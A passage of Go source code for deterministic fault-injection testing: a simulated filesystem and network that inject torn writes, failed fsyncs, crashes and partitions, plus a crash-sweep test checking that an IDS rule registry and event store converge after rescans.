			t.Fatalf("seed %d: file %q after torn write of %d", seed, b, n)
		}
	}
}

// TestSimFSSyncFailPartial: a failed fsync may still have made a prefix of
// the unsynced tail durable, never more than was written.
func TestSimFSSyncFailPartial(t *testing.T) {
	for seed := int64(0); seed < 50; seed++ {
		fs := NewSimFS(seed, Profile{SyncFail: 1})
		f, _ := fs.OpenFile("s", os.O_CREATE|os.O_RDWR, 0o644)
		f.Write([]byte("0123456789"))
		if err := f.Sync(); !errors.Is(err, ErrInjected) {
			t.Fatalf("seed %d: want injected sync failure, got %v", seed, err)
		}
		d, _ := fs.DurableBytes("s")
		if !strings.HasPrefix("0123456789", string(d)) {
			t.Fatalf("seed %d: durable %q is not a written prefix", seed, d)
		}
	}
}

// TestSimFSDropSync: the lying fsync reports success with nothing durable —
// the canonical deliberately-injected durability bug.
func TestSimFSDropSync(t *testing.T) {
	fs := NewSimFS(1, Profile{DropSync: DropSyncFor("COMMITS.log")})
	f, _ := fs.OpenFile("store/COMMITS.log", os.O_CREATE|os.O_RDWR, 0o644)
	f.Write([]byte("record"))
	if err := f.Sync(); err != nil {
		t.Fatalf("lying fsync must report success, got %v", err)
	}
	if d, _ := fs.DurableBytes("store/COMMITS.log"); len(d) != 0 {
		t.Fatalf("DropSync file became durable: %q", d)
	}
	g, _ := fs.OpenFile("store/shard-000", os.O_CREATE|os.O_RDWR, 0o644)
	g.Write([]byte("data"))
	if err := g.Sync(); err != nil {
		t.Fatal(err)
	}
	if d, _ := fs.DurableBytes("store/shard-000"); string(d) != "data" {
		t.Fatalf("non-matching file not durable: %q", d)
	}
}

// TestSimFSTruncateAndAppend covers the commit-journal recovery pattern:
// open O_APPEND, truncate to a committed size, keep appending.
func TestSimFSTruncateAndAppend(t *testing.T) {
	fs := NewSimFS(3, Profile{})
	f, _ := fs.OpenFile("j", os.O_CREATE|os.O_RDWR, 0o644)
	f.Write([]byte("aaaabbbbcccc"))
	f.Sync()
	if err := f.Truncate(8); err != nil {
		t.Fatal(err)
	}
	if d, _ := fs.DurableBytes("j"); string(d) != "aaaabbbb" {
		t.Fatalf("durable after truncate: %q", d)
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		t.Fatal(err)
	}
	f.Write([]byte("dddd"))
	b, _ := fs.ReadFile("j")
	if string(b) != "aaaabbbbdddd" {
		t.Fatalf("after truncate+append: %q", b)
	}
}

// TestSimFSHandleAndTempAudit: OpenHandles and Files power the leak
// regression tests; make sure they count correctly.
func TestSimFSHandleAndTempAudit(t *testing.T) {
	fs := NewSimFS(1, Profile{})
	if n := fs.OpenHandles(); n != 0 {
		t.Fatalf("fresh FS has %d handles", n)
	}
	f, _ := fs.OpenFile("a", os.O_CREATE|os.O_RDWR, 0o644)
	g, _ := fs.OpenFile("b.tmp", os.O_CREATE|os.O_RDWR, 0o644)
	if n := fs.OpenHandles(); n != 2 {
		t.Fatalf("open handles = %d, want 2", n)
	}
	f.Close()
	g.Close()
	if n := fs.OpenHandles(); n != 0 {
		t.Fatalf("handles after close = %d", n)
	}
	if err := fs.Rename("b.tmp", "b"); err != nil {
		t.Fatal(err)
	}
	got := strings.Join(fs.Files(), ",")
	if got != "a,b" {
		t.Fatalf("Files() = %q", got)
	}
}

// TestNetworkDeterminismAndReset drives a real TCP pair through the fault
// dialer and checks (a) budgets kill connections with byte-level truncation,
// (b) the same seed yields the same reset schedule.
func TestNetworkDeterminismAndReset(t *testing.T) {
	run := func(seed int64) (resets int, trace string) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				go io.Copy(io.Discard, c)
			}
		}()
		nw := NewNetwork(seed, NetProfile{ResetProb: 0.7, MinBudget: 64, MaxBudget: 256})
		var sb strings.Builder
		buf := make([]byte, 100)
		for i := 0; i < 20; i++ {
			c, err := nw.Dial(ln.Addr().String(), time.Second)
			if err != nil {
				t.Fatal(err)
			}
			ok := 0
			for j := 0; j < 10; j++ {
				if _, err := c.Write(buf); err != nil {
					if !errors.Is(err, ErrInjected) {
						t.Fatalf("unexpected write error: %v", err)
					}
					break
				}
				ok++
			}
			sb.WriteByte(byte('0' + ok))
			c.Close()
		}
		return nw.Resets(), sb.String()
	}
	r1, t1 := run(11)
	r2, t2 := run(11)
	if t1 != t2 || r1 != r2 {
		t.Fatalf("same seed diverged: %q/%d vs %q/%d", t1, r1, t2, r2)
	}
	if r1 == 0 {
		t.Fatal("no resets with ResetProb=0.7")
	}
	if !strings.Contains(t1, "A"[:0]+"0") && !strings.ContainsAny(t1, "0123456") {
		t.Fatalf("no truncated connection observed: %q", t1)
	}
}

// TestNetworkPartition: a partition fails writes on the cut direction only,
// and healing restores traffic on fresh connections.
func TestNetworkPartition(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go io.Copy(io.Discard, c)
		}
	}()
	nw := NewNetwork(1, NetProfile{})
	nw.Partition(true, false) // cut sensor->coordinator only

	c, err := nw.Dial(ln.Addr().String(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Write([]byte("x")); !errors.Is(err, ErrInjected) {
		t.Fatalf("write through up-partition: %v", err)
	}

	nw.Partition(false, false) // heal
	c2, err := nw.Dial(ln.Addr().String(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c2.Write([]byte("x")); err != nil {
		t.Fatalf("write after heal: %v", err)
	}
	c2.Close()
}
