package fault

import (
	"fmt"
	"math/rand"
	"net"
	"sync"
	"time"
)

// NetProfile tunes a Network's connection-fault schedule.
type NetProfile struct {
	// ResetProb is the per-connection probability that the connection is
	// given a byte budget; once the budget is spent, the next write is cut
	// (possibly mid-frame — byte-level truncation) and the connection dies.
	ResetProb float64
	// MinBudget/MaxBudget bound the seeded byte budget of a doomed
	// connection. Zero means 512 / 64 KiB.
	MinBudget, MaxBudget int
	// MaxDelay, when > 0, injects a seeded delay of up to this duration
	// before each write — reordering ack timing against commit timing.
	MaxDelay time.Duration
}

func (p NetProfile) withDefaults() NetProfile {
	if p.MinBudget == 0 {
		p.MinBudget = 512
	}
	if p.MaxBudget == 0 {
		p.MaxBudget = 64 << 10
	}
	return p
}

// Network injects seeded connection faults between the fleet shipper and
// listener: resets after a byte budget, byte-level truncation of the final
// frame, write delays, and asymmetric partitions. Wrap the sensor side with
// Dial (it satisfies ShipperConfig.Dial) and the coordinator side with
// WrapListener; partitions then cut each direction independently.
type Network struct {
	mu    sync.Mutex
	rng   *rand.Rand
	prof  NetProfile
	conns int

	// Partition state: up blocks sensor->coordinator writes, down blocks
	// coordinator->sensor writes. An asymmetric partition sets exactly one.
	upBlocked, downBlocked bool

	resets int
}

// NewNetwork creates a fault-injecting network with the given seed.
func NewNetwork(seed int64, prof NetProfile) *Network {
	return &Network{rng: rand.New(rand.NewSource(seed)), prof: prof.withDefaults()}
}

// Partition sets the partition state: up cuts the sensor->coordinator
// direction, down the reverse. Partition(false, false) heals.
func (n *Network) Partition(up, down bool) {
	n.mu.Lock()
	n.upBlocked, n.downBlocked = up, down
	n.mu.Unlock()
}

// Resets reports how many connections the byte-budget schedule has killed.
func (n *Network) Resets() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.resets
}

// newConn draws one connection's fault parameters.
func (n *Network) newConn(inner net.Conn, up bool) *Conn {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.conns++
	c := &Conn{Conn: inner, net: n, up: up, budget: -1}
	if n.prof.ResetProb > 0 && n.rng.Float64() < n.prof.ResetProb {
		c.budget = int64(n.prof.MinBudget)
		if span := n.prof.MaxBudget - n.prof.MinBudget; span > 0 {
			c.budget += int64(n.rng.Intn(span))
		}
	}
	if n.prof.MaxDelay > 0 {
		c.delay = time.Duration(n.rng.Int63n(int64(n.prof.MaxDelay) + 1))
	}
	return c
}

// Dial satisfies fleet.ShipperConfig.Dial: a TCP dial whose connection
// carries this network's fault schedule on the sensor->coordinator
// direction.
func (n *Network) Dial(addr string, timeout time.Duration) (net.Conn, error) {
	inner, err := net.DialTimeout("tcp", addr, timeout)
	if err != nil {
		return nil, err
	}
	return n.newConn(inner, true), nil
}

// WrapListener wraps a net.Listener so accepted connections carry the
// fault schedule on the coordinator->sensor direction.
func (n *Network) WrapListener(ln net.Listener) net.Listener {
	return &faultListener{Listener: ln, net: n}
}

type faultListener struct {
	net.Listener
	net *Network
}

func (l *faultListener) Accept() (net.Conn, error) {
	inner, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return l.net.newConn(inner, false), nil
}

// Conn is a net.Conn with seeded write faults. Reads pass through: faults
// on the opposite direction are injected by the peer's own wrapper.
type Conn struct {
	net.Conn
	net    *Network
	up     bool // direction of this side's writes: sensor->coordinator?
	budget int64
	delay  time.Duration
	wrote  int64
}

// errPartitioned looks like a link failure, not a protocol error.
func errPartitioned(up bool) error {
	dir := "coordinator->sensor"
	if up {
		dir = "sensor->coordinator"
	}
	return fmt.Errorf("fault: %s partitioned: %w", dir, ErrInjected)
}

func (c *Conn) Write(p []byte) (int, error) {
	if c.delay > 0 {
		time.Sleep(c.delay)
	}
	c.net.mu.Lock()
	blocked := (c.up && c.net.upBlocked) || (!c.up && c.net.downBlocked)
	cut := int64(-1)
	if !blocked && c.budget >= 0 && c.wrote+int64(len(p)) > c.budget {
		cut = c.budget - c.wrote
		if cut < 0 {
			cut = 0
		}
		c.net.resets++
	}
	c.net.mu.Unlock()
	if blocked {
		// A partition drops the segment on the floor; the writer sees a
		// failed connection (after the kernel's timeout in real life —
		// immediately here, which just accelerates the reconnect loop).
		c.Conn.Close()
		return 0, errPartitioned(c.up)
	}
	if cut >= 0 {
		// Byte-level truncation: a prefix of the frame escapes, then the
		// connection dies — the torn-frame case the CRC framing must catch.
		n := 0
		if cut > 0 {
			n, _ = c.Conn.Write(p[:cut])
		}
		c.Conn.Close()
		return n, fmt.Errorf("fault: connection reset after %d bytes: %w", c.wrote+cut, ErrInjected)
	}
	n, err := c.Conn.Write(p)
	c.net.mu.Lock()
	c.wrote += int64(n)
	c.net.mu.Unlock()
	return n, err
}
