package fault

import (
	"errors"
	"fmt"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// ErrCrashed is returned by every SimFS operation once a crash point has
// fired: the simulated process is dead, and stays dead until Restart.
var ErrCrashed = errors.New("fault: simulated crash")

// ErrInjected is the base of every injected I/O error; errors.Is(err,
// ErrInjected) distinguishes scheduled faults from real bugs in a test.
var ErrInjected = errors.New("fault: injected error")

// Profile tunes a SimFS's fault schedule. The zero Profile injects nothing:
// SimFS is then just a deterministic in-memory filesystem with an explicit
// page-cache model (writes are volatile until Sync; Crash discards them).
type Profile struct {
	// TornWrite is the probability that a Write persists only a prefix of
	// its buffer and fails — the classic torn append.
	TornWrite float64
	// ENOSPC is the probability that a Write fails having written nothing.
	ENOSPC float64
	// SyncFail is the probability that a Sync fails; a seeded fraction of
	// the unsynced bytes becomes durable anyway (a partial fsync — the
	// drive flushed some pages before erroring).
	SyncFail float64
	// CrashEvery, when > 0, schedules hard crash points: roughly every
	// CrashEvery filesystem operations (uniform in [1, 2*CrashEvery]), the
	// FS transitions to the crashed state and every subsequent operation
	// returns ErrCrashed until Restart.
	CrashEvery int
	// DropSync, when set, names files whose Sync LIES: it returns success
	// without making anything durable. This is the deliberate-bug injector
	// — run a simulation with DropSync matching COMMITS.log and the seeds
	// that crash after an ack must catch the lost durability.
	DropSync func(name string) bool
}

// SimFS is a deterministic in-memory filesystem with seeded fault
// injection. Every file carries two states: data (what reads observe — the
// page cache) and durable (what survives a crash — the platter). Write
// extends data; Sync promotes data to durable; Crash/Restart reverts each
// file to its durable content plus a seeded prefix of the unsynced tail
// (the torn page writes a real power loss leaves behind).
//
// Rename is modeled as atomic and immediately journaled (the content's
// durability still follows the source file), matching the guarantees the
// repo's compact-and-rename paths rely on.
type SimFS struct {
	mu      sync.Mutex
	rng     *rand.Rand
	prof    Profile
	files   map[string]*simFile
	dirs    map[string]bool
	handles map[*simHandle]bool
	step    uint64
	crashAt uint64 // next scheduled crash step; 0 = none
	crashed bool
	crashes int
	faults  int
	// failHook, when armed via FailWith, deterministically fails matching
	// operations — the error-path regression tests use it to hit one exact
	// failure branch instead of fishing with probabilities.
	failHook func(op, name string) error
}

type simFile struct {
	data    []byte
	durable []byte
	synced  bool // durable is current (len alone can't tell: truncation)
}

// NewSimFS creates a simulated filesystem with the given seed and profile.
func NewSimFS(seed int64, prof Profile) *SimFS {
	fs := &SimFS{
		rng:     rand.New(rand.NewSource(seed)),
		prof:    prof,
		files:   map[string]*simFile{},
		dirs:    map[string]bool{},
		handles: map[*simHandle]bool{},
	}
	fs.scheduleCrashLocked()
	return fs
}

func (fs *SimFS) scheduleCrashLocked() {
	if fs.prof.CrashEvery > 0 {
		fs.crashAt = fs.step + 1 + uint64(fs.rng.Intn(2*fs.prof.CrashEvery))
	} else {
		fs.crashAt = 0
	}
}

// op advances the operation clock and reports whether the process is (now)
// crashed. Callers hold fs.mu.
func (fs *SimFS) op() bool {
	if fs.crashed {
		return true
	}
	fs.step++
	if fs.crashAt != 0 && fs.step >= fs.crashAt {
		fs.crashed = true
		fs.crashes++
	}
	return fs.crashed
}

// Crashed reports whether a crash point has fired. The driver polls this to
// know the simulated process is dead and needs a Restart.
func (fs *SimFS) Crashed() bool {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.crashed
}

// Crash forces the crashed state, as if a crash point fired now.
func (fs *SimFS) Crash() {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if !fs.crashed {
		fs.crashed = true
		fs.crashes++
	}
}

// Crashes returns how many crash points have fired so far.
func (fs *SimFS) Crashes() int {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.crashes
}

// Faults returns how many I/O faults (torn writes, ENOSPC, failed syncs)
// have been injected so far.
func (fs *SimFS) Faults() int {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.faults
}

// FailWith arms (or with nil, disarms) a deterministic fault hook. Before
// the profile's random faults, every mutating operation consults
// hook(op, name) — op is one of "open", "write", "writefile", "sync",
// "truncate", "rename", "remove" — and fails with the returned error when
// non-nil. The hook runs with the filesystem lock held: it must not call
// back into the SimFS.
func (fs *SimFS) FailWith(hook func(op, name string) error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.failHook = hook
}

// failLocked consults the armed hook. Callers hold fs.mu.
func (fs *SimFS) failLocked(op, name string) error {
	if fs.failHook == nil {
		return nil
	}
	if err := fs.failHook(op, name); err != nil {
		fs.faults++
		return err
	}
	return nil
}

// OpenHandles returns how many opened files have not been closed — the
// leaked-descriptor audit used by the error-path regression tests.
func (fs *SimFS) OpenHandles() int {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return len(fs.handles)
}

// Restart recovers from a crash: every open handle is invalidated, every
// file reverts to its durable content plus a seeded prefix of its unsynced
// tail (torn pages), and the next crash point is scheduled. It is also
// valid on a non-crashed FS (a clean process restart: the page cache
// survives, so nothing reverts, but handles still die with the process).
func (fs *SimFS) Restart() {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	for h := range fs.handles {
		h.closed = true
		delete(fs.handles, h)
	}
	if fs.crashed {
		for _, f := range fs.files {
			if f.synced {
				continue
			}
			next := append([]byte(nil), f.durable...)
			if tail := len(f.data) - len(f.durable); tail > 0 {
				keep := fs.rng.Intn(tail + 1)
				next = append(next, f.data[len(f.durable):len(f.durable)+keep]...)
			}
			f.data = next
			f.synced = len(f.data) == len(f.durable)
		}
		fs.crashed = false
	}
	fs.scheduleCrashLocked()
}

// Files returns the names of existing files, sorted (tests audit for
// undeleted temp files with it).
func (fs *SimFS) Files() []string {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	out := make([]string, 0, len(fs.files))
	for name := range fs.files {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

func injected(kind, name string) error {
	return fmt.Errorf("fault: injected %s on %s: %w", kind, name, ErrInjected)
}

func (fs *SimFS) MkdirAll(path string, perm os.FileMode) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return ErrCrashed
	}
	fs.dirs[filepath.Clean(path)] = true
	return nil
}

func (fs *SimFS) OpenFile(name string, flag int, perm os.FileMode) (File, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return nil, ErrCrashed
	}
	name = filepath.Clean(name)
	if err := fs.failLocked("open", name); err != nil {
		return nil, err
	}
	f, ok := fs.files[name]
	if !ok {
		if flag&os.O_CREATE == 0 {
			return nil, &os.PathError{Op: "open", Path: name, Err: os.ErrNotExist}
		}
		f = &simFile{synced: true}
		fs.files[name] = f
	} else if flag&os.O_TRUNC != 0 {
		f.data = nil
		f.durable = nil
		f.synced = false
	}
	h := &simHandle{fs: fs, name: name, f: f}
	if flag&os.O_APPEND != 0 {
		h.off = int64(len(f.data))
	}
	fs.handles[h] = true
	return h, nil
}

func (fs *SimFS) ReadFile(name string) ([]byte, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return nil, ErrCrashed
	}
	f, ok := fs.files[filepath.Clean(name)]
	if !ok {
		return nil, &os.PathError{Op: "open", Path: name, Err: os.ErrNotExist}
	}
	return append([]byte(nil), f.data...), nil
}

func (fs *SimFS) WriteFile(name string, data []byte, perm os.FileMode) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return ErrCrashed
	}
	name = filepath.Clean(name)
	if err := fs.failLocked("writefile", name); err != nil {
		return err
	}
	if p := fs.prof.ENOSPC; p > 0 && fs.rng.Float64() < p {
		fs.faults++
		return injected("ENOSPC", name)
	}
	f := &simFile{data: append([]byte(nil), data...)}
	if p := fs.prof.TornWrite; p > 0 && fs.rng.Float64() < p {
		fs.faults++
		f.data = f.data[:fs.rng.Intn(len(f.data)+1)]
		fs.files[name] = f
		return injected("torn write", name)
	}
	fs.files[name] = f
	return nil
}

func (fs *SimFS) Rename(oldpath, newpath string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return ErrCrashed
	}
	oldpath, newpath = filepath.Clean(oldpath), filepath.Clean(newpath)
	if err := fs.failLocked("rename", oldpath); err != nil {
		return err
	}
	f, ok := fs.files[oldpath]
	if !ok {
		return &os.PathError{Op: "rename", Path: oldpath, Err: os.ErrNotExist}
	}
	delete(fs.files, oldpath)
	fs.files[newpath] = f
	return nil
}

func (fs *SimFS) Remove(name string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return ErrCrashed
	}
	name = filepath.Clean(name)
	if err := fs.failLocked("remove", name); err != nil {
		return err
	}
	if _, ok := fs.files[name]; !ok {
		return &os.PathError{Op: "remove", Path: name, Err: os.ErrNotExist}
	}
	delete(fs.files, name)
	return nil
}

// ReadDir lists the names of files directly inside dir, sorted. Like the OS
// implementation, a missing directory reads as empty.
func (fs *SimFS) ReadDir(dir string) ([]string, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if fs.op() {
		return nil, ErrCrashed
	}
	dir = filepath.Clean(dir)
	var names []string
	for name := range fs.files {
		if filepath.Dir(name) == dir {
			names = append(names, filepath.Base(name))
		}
	}
	sort.Strings(names)
	return names, nil
}

// Quiescent reports whether every file's page cache matches its durable
// content — a crash right now would lose nothing. The simulation driver
// uses it as the safe-kill predicate for processes whose contract only
// covers clean-at-rest state (the sensor's spool + checkpoint).
func (fs *SimFS) Quiescent() bool {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	for _, f := range fs.files {
		if len(f.data) != len(f.durable) {
			return false
		}
		for i := range f.data {
			if f.data[i] != f.durable[i] {
				return false
			}
		}
	}
	return true
}

// DurableBytes returns the crash-surviving content of a file — what a
// Restart after a crash right now would recover at most (a torn suffix of
// the unsynced tail may survive too). Tests assert durability claims with
// it.
func (fs *SimFS) DurableBytes(name string) ([]byte, bool) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	f, ok := fs.files[filepath.Clean(name)]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), f.durable...), true
}

// simHandle is one open file descriptor.
type simHandle struct {
	fs     *SimFS
	name   string
	f      *simFile
	off    int64
	closed bool
}

func (h *simHandle) Write(p []byte) (int, error) {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.fs.op() {
		return 0, ErrCrashed
	}
	if h.closed {
		return 0, os.ErrClosed
	}
	if err := h.fs.failLocked("write", h.name); err != nil {
		return 0, err
	}
	if pr := h.fs.prof.ENOSPC; pr > 0 && h.fs.rng.Float64() < pr {
		h.fs.faults++
		return 0, injected("ENOSPC", h.name)
	}
	n := len(p)
	var err error
	if pr := h.fs.prof.TornWrite; pr > 0 && h.fs.rng.Float64() < pr {
		h.fs.faults++
		n = h.fs.rng.Intn(len(p) + 1)
		err = injected("torn write", h.name)
	}
	end := h.off + int64(n)
	if grow := end - int64(len(h.f.data)); grow > 0 {
		h.f.data = append(h.f.data, make([]byte, grow)...)
	}
	copy(h.f.data[h.off:end], p[:n])
	h.off = end
	if n > 0 {
		h.f.synced = false
	}
	return n, err
}

func (h *simHandle) ReadAt(p []byte, off int64) (int, error) {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.fs.op() {
		return 0, ErrCrashed
	}
	if h.closed {
		return 0, os.ErrClosed
	}
	if off >= int64(len(h.f.data)) {
		return 0, io.EOF
	}
	n := copy(p, h.f.data[off:])
	if n < len(p) {
		return n, io.EOF
	}
	return n, nil
}

func (h *simHandle) Seek(offset int64, whence int) (int64, error) {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.fs.op() {
		return 0, ErrCrashed
	}
	if h.closed {
		return 0, os.ErrClosed
	}
	switch whence {
	case io.SeekStart:
		h.off = offset
	case io.SeekCurrent:
		h.off += offset
	case io.SeekEnd:
		h.off = int64(len(h.f.data)) + offset
	default:
		return 0, fmt.Errorf("fault: bad whence %d", whence)
	}
	if h.off < 0 {
		return 0, fmt.Errorf("fault: negative seek offset")
	}
	return h.off, nil
}

func (h *simHandle) Truncate(size int64) error {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.fs.op() {
		return ErrCrashed
	}
	if h.closed {
		return os.ErrClosed
	}
	if size < 0 {
		return fmt.Errorf("fault: bad truncate size %d", size)
	}
	if err := h.fs.failLocked("truncate", h.name); err != nil {
		return err
	}
	if size >= int64(len(h.f.data)) {
		h.f.data = append(h.f.data, make([]byte, size-int64(len(h.f.data)))...)
		h.f.synced = size == int64(len(h.f.durable))
		return nil
	}
	h.f.data = h.f.data[:size]
	if int64(len(h.f.durable)) > size {
		h.f.durable = h.f.durable[:size]
	}
	h.f.synced = len(h.f.data) == len(h.f.durable)
	return nil
}

func (h *simHandle) Sync() error {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.fs.op() {
		return ErrCrashed
	}
	if h.closed {
		return os.ErrClosed
	}
	if err := h.fs.failLocked("sync", h.name); err != nil {
		return err
	}
	if ds := h.fs.prof.DropSync; ds != nil && ds(h.name) {
		return nil // the lying fsync: success reported, nothing durable
	}
	if pr := h.fs.prof.SyncFail; pr > 0 && h.fs.rng.Float64() < pr {
		h.fs.faults++
		// Partial fsync: some pages reached the platter before the error.
		if tail := len(h.f.data) - len(h.f.durable); tail > 0 {
			keep := h.fs.rng.Intn(tail + 1)
			h.f.durable = append(h.f.durable, h.f.data[len(h.f.durable):len(h.f.durable)+keep]...)
		}
		return injected("fsync failure", h.name)
	}
	h.f.durable = append(h.f.durable[:0], h.f.data...)
	h.f.synced = true
	return nil
}

func (h *simHandle) Close() error {
	h.fs.mu.Lock()
	defer h.fs.mu.Unlock()
	if h.closed {
		return os.ErrClosed
	}
	h.closed = true
	delete(h.fs.handles, h)
	if h.fs.crashed {
		return ErrCrashed
	}
	return nil
}

// DropSyncFor builds a Profile.DropSync matcher on a path suffix —
// DropSyncFor("COMMITS.log") is the canonical deliberately-injected
// durability bug.
func DropSyncFor(suffix string) func(string) bool {
	return func(name string) bool { return strings.HasSuffix(name, suffix) }
}
