package simtest

import (
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/registry"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

// TestRescanCrashConverges is the issue's crash-mid-reload / crash-mid-rescan
// acceptance check: a registry and event store on one simulated filesystem
// ingest a workload under the base ruleset, then a publication with
// earlier-dated signatures lands — and the driver power-cycles the process at
// every mutating filesystem operation of the publish and the rescan in turn
// (a deterministic sweep, not a probabilistic schedule). After each crash the
// process restarts, retries per the operator contract (re-publish on a failed
// publish, re-run the rescan while the pending marker stands), and the run
// must converge to exactly the labels a cold run over the final ruleset
// produces.
func TestRescanCrashConverges(t *testing.T) {
	for _, seed := range seedList() {
		seed := seed
		t.Run(fmt.Sprintf("seed=%d", seed), func(t *testing.T) {
			t.Parallel()
			runRescanCrashSweep(t, seed)
		})
	}
}

func runRescanCrashSweep(t *testing.T, seed int64) {
	mkRule := func(text string, pub time.Time) rules.DatedRule {
		r, err := rules.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		return rules.DatedRule{Rule: r, Published: pub}
	}
	base := []rules.DatedRule{mkRule(
		`alert tcp any any -> any any (msg:"base"; content:"alpha-token"; reference:cve,2022-1000; sid:910001; rev:1;)`,
		time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC))}
	delta := []rules.DatedRule{
		mkRule(`alert tcp any any -> any any (msg:"early"; content:"alpha-token"; reference:cve,2021-2000; sid:910002; rev:1;)`,
			time.Date(2021, 9, 1, 0, 0, 0, 0, time.UTC)),
		mkRule(`alert tcp any any -> any any (msg:"late sig"; content:"beta-token"; reference:cve,2021-3000; sid:910003; rev:1;)`,
			time.Date(2021, 10, 1, 0, 0, 0, 0, time.UTC)),
	}
	engCfg := ids.Config{PortInsensitive: true}

	sessions := make([]tcpasm.Session, 30)
	payloads := []string{"GET /alpha-token HTTP/1.1\r\n\r\n", "GET /beta-token HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\n\r\n"}
	start := time.Date(2022, 3, 10, 0, 0, 0, 0, time.UTC)
	for i := range sessions {
		sessions[i] = tcpasm.Session{
			Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.7"), Port: uint16(40000 + i)},
			Server:     packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80},
			Start:      start.Add(time.Duration(i) * time.Minute),
			ClientData: []byte(payloads[i%len(payloads)]),
			Complete:   true,
		}
	}

	// Cold truth: every session labeled once by the final ruleset.
	finalEng := ids.NewEngine(rules.MergeDated(base, delta), engCfg)
	want := map[string]int{}
	for i := range sessions {
		if ev, ok := ids.MatchSession(&sessions[i], finalEng); ok {
			want[labelKeyOf(&ev)]++
		}
	}
	if len(want) == 0 {
		t.Fatal("cold run matched nothing; fixture broken")
	}

	fs := fault.NewSimFS(seed, fault.Profile{})
	open := func() (*eventstore.Store, *registry.Registry) {
		t.Helper()
		store, err := eventstore.Open("store", eventstore.Options{FS: fs})
		if err != nil {
			t.Fatalf("reopening store: %v", err)
		}
		reg, err := registry.Open(registry.Config{Dir: "rules", FS: fs, Base: base, Engine: engCfg})
		if err != nil {
			t.Fatalf("reopening registry: %v", err)
		}
		return store, reg
	}
	store, reg := open()

	// Ingest under the base ruleset, fault-free: events committed, every
	// session's digest durable.
	var evs []ids.Event
	var digests []registry.Digest
	for i := range sessions {
		ev, ok := ids.MatchSession(&sessions[i], reg.Engine())
		var evp *ids.Event
		if ok {
			evs = append(evs, ev)
			evp = &ev
		}
		digests = append(digests, registry.DigestOf(&sessions[i], evp, 0))
	}
	if err := store.AppendBatch(evs); err != nil {
		t.Fatal(err)
	}
	if err := store.Commit(nil); err != nil {
		t.Fatal(err)
	}
	if err := reg.RecordDigests(digests); err != nil {
		t.Fatal(err)
	}
	if err := reg.SyncDigests(); err != nil {
		t.Fatal(err)
	}

	// Sweep crash points through publish + rescan. publishAcked is the
	// operator's own memory: a Publish that returned an error is retried
	// after the restart (republishing the same delta is a no-op merge), one
	// that returned success never is.
	publishAcked := false
	stride := 1 + seed%4
	crashes := 0
	for crashAt := 1 + seed%3; ; crashAt += stride {
		var ops atomic.Int64
		fs.FailWith(func(op, name string) error {
			if ops.Add(1) >= crashAt {
				return fault.ErrCrashed
			}
			return nil
		})
		err := func() error {
			if !publishAcked {
				if _, err := reg.Publish(delta); err != nil {
					return err
				}
				publishAcked = true
			}
			if reg.RescanNeeded() {
				if _, err := reg.Rescan(store); err != nil {
					return err
				}
			}
			return nil
		}()
		fs.FailWith(nil)
		if err == nil && publishAcked && !reg.RescanNeeded() {
			break
		}
		// Power loss: unsynced state reverts, the process restarts.
		crashes++
		if crashes > 10_000 {
			t.Fatalf("crash sweep did not converge (last error: %v)", err)
		}
		fs.Crash()
		reg.Close()
		store.Close()
		fs.Restart()
		store, reg = open()
	}
	defer store.Close()
	defer reg.Close()
	if crashes == 0 {
		t.Fatal("sweep never crashed; crash points are not firing")
	}

	// One final power loss at rest: the converged labels must be durable.
	fs.Crash()
	reg.Close()
	store.Close()
	fs.Restart()
	store, reg = open()

	got := map[string]int{}
	events := store.Snapshot().Events()
	for i := range events {
		got[labelKeyOf(&events[i])]++
	}
	if len(got) != len(want) {
		t.Fatalf("after %d crashes: %d distinct labels, cold run has %d\ngot %v\nwant %v",
			crashes, len(got), len(want), got, want)
	}
	for k, n := range want {
		if got[k] != n {
